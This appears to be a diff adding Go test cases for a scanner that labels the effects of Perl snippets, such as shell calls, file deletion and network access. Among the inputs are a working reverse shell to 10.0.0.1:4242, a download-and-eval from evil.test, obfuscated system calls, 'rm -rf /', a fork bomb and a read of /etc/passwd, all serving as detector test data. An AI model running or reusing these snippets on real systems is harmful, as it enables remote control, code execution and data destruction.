@@ -1,0 +1,70 @@
+package eval
+
+import "testing"
+
+func TestPerl(t *testing.T) { runCases(t, "perl", perlCases()) }
+
+// FuzzPerl feeds the tokenizer and all behind it.
+func FuzzPerl(f *testing.F) { fuzzLanguage(f, "perl", perlCases()) }
+
+func perlCases() []scanCase {
+	return []scanCase{
+		{`print "hello\n";`, `pure`},
+		{`system("rm -rf build");`, `shell: rm -rf build`},
+		{`system "rm", "-rf", "x";`, `argv: rm|-rf|x`},
+		{`my $c = "rm -rf /"; system($c);`, `shell: rm -rf /`},
+		{`exec "/bin/sh";`, `shell: /bin/sh`},
+		{"print `id`;", `shell: id`},
+		{`my $x = qx{ls -la}; print $x;`, `shell: ls -la`},
+		{`unlink "a.txt", "b.txt";`, `fs.delete a.txt; fs.delete b.txt`},
+		{`unlink glob("*.log");`, `fs.delete <*.log> many; fs.read .`},
+		{`unlink <*.tmp>;`, `fs.delete <*.tmp> many; fs.read .`},
+		{`unlink for glob "*.o";`, `fs.delete <*.o> many; fs.read .`},
+		{`open(F, ">out.txt"); print F "x"; close F;`, `fs.write out.txt`},
+		{`open(my $fh, '<', '/etc/passwd') or die; while (<$fh>) { print; }`, `fs.read /etc/passwd shown`},
+		{`open(my $fh, '>>', 'log') or die $!; print $fh "x\n";`, `fs.write log (append)`},
+		{`open(P, "|sh"); print P "id";`, `shell: sh`},
+		{`open(P, "ls |"); print <P>;`, `shell: ls `},
+		{`open my $p, '-|', 'ls', '-l';`, `argv: ls|-l`},
+		{`use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`, `exec.remote 10.0.0.1:4242 (reverse shell); net.connect 10.0.0.1:4242; shell: /bin/sh -i`},
+		{`use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr=>"10.0.0.1:80"); print $s "x";`, `net.connect 10.0.0.1:80; net.send 10.0.0.1:80`},
+		{`eval "system('id')";`, `shell: id`},
+		{`eval { die "x" }; print $@;`, `pure`},
+		{`use MIME::Base64; eval decode_base64("c3lzdGVtKCdpZCcp");`, `shell: id`},
+		{`system(pack("H*","6c73"));`, `shell: ls`},
+		{`use File::Path qw(remove_tree); remove_tree("build");`, `fs.delete build recursive`},
+		{`rename "a", "b"; mkdir "d"; chmod 0755, "x"; symlink "a", "b";`, `fs.attr x (executable); fs.create b; fs.create d (directory); fs.move a; fs.write b (move) <- a`},
+		{`fork while 1;`, `resource.exhaust (fork bomb)`},
+		{`print join(",", map { $_ * 2 } 1..5), "\n";`, `pure`},
+		{`print "$ENV{HOME}\n";`, `pure`},
+		{`print %ENV;`, `env`},
+		{`for my $f (qw(a b)) { unlink $f }`, `fs.delete <one of several>`},
+		{`s/a/b/g; print;`, `pure`},
+		{`$x =~ s/(.*)/system("id")/e;`, `shell: id`},
+		{"# system(\"x\")\nprint 1;", `pure`},
+		{"print <<EOT;\nhello\nEOT\n", `pure`},
+		{`use LWP::Simple; eval get("http://evil.test/x");`, `exec.remote (downloaded); net.fetch http://evil.test/x; perl 2: <a response>; ?`},
+		{`use LWP::Simple; getprint("http://a.test/");`, `net.fetch http://a.test/`},
+		{`printf("%s %d\n", "a", 3);`, `pure`},
+		{`print scalar(localtime), "\n";`, `pure`},
+		{`while (<STDIN>) { chomp; print length($_), "\n" }`, `stdin; pure`},
+		{`sub f { my $p = shift; unlink $p; } f("zz");`, `fs.delete zz`},
+		{`kill 9, 1;`, `proc.signal 1`},
+		{`print "a" x 3, "\n"; my @a = (1,2,3); print $a[0], scalar(@a);`, `pure`},
+		{`use Foo::Bar; Foo::Bar->go;`, `?`},
+		{`print sprintf("%02d", 5) . "\n";`, `pure`},
+		{`my %h = (a => 1, b => 2); for my $k (sort keys %h) { print "$k=$h{$k}\n"; }`, `pure`},
+		{`use File::Find; find(sub { unlink $_ if /\.bak$/ }, "src");`, `fs.delete <find>; fs.read src`},
+		{`open(my $fh, '<', 'a') or die; my @l = <$fh>; print scalar(@l);`, `fs.read a shown`},
+		{`chmod 0755, "x"; chdir "/"; unlink "etc/x";`, `fs.attr x (executable); fs.delete /etc/x`},
+		{`print q{a} . qq{b} . "c$x\n";`, `pure`},
+		{`my @l = split /,/, "a,b"; print "@l\n";`, `pure`},
+		{`y/a-z/A-Z/; print;`, `pure`},
+		{`print "yes" if "abc" =~ m{b};`, `pure`},
+		{`exec { "sh" } "sh", "-c", "id";`, `argv: sh|-c|id`},
+		{`rename $_, "$_.bak" for <*.txt>;`, `fs.move <*.txt> many; fs.read .; fs.write <*.txt>.bak (move) <- <*.txt>`},
+		{`open(my $in, '<', 'a'); open(my $out, '>', 'b'); while (my $l = <$in>) { print $out $l }`, `fs.read a; fs.write b <- a`},
+		{`local $/; print <STDIN>;`, `stdin; pure`},
+		{`my $f = sub { unlink shift }; &$f("a");`, `fs.delete a`},
+	}
+}
